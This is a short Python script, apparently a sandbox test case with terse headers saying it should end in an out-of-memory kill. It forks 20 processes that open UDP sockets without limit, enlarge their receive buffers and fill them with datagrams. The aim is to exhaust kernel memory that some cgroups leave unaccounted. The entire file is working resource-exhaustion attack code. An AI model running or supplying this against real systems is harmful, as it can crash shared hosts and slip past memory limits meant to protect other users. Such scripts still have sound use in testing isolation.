#: takes the kernel's memory by what waits in network sockets, which not every cgroup counts
#: ends oom
#: says
import os, socket
for child in range(20):
    if os.fork() == 0: break
kept, by = [], socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    try: kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    except OSError: continue
    kept[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 26)
    kept[-1].bind(('127.0.0.1', 0))
    for _ in range(20): by.sendto(bytes(60000), kept[-1].getsockname())
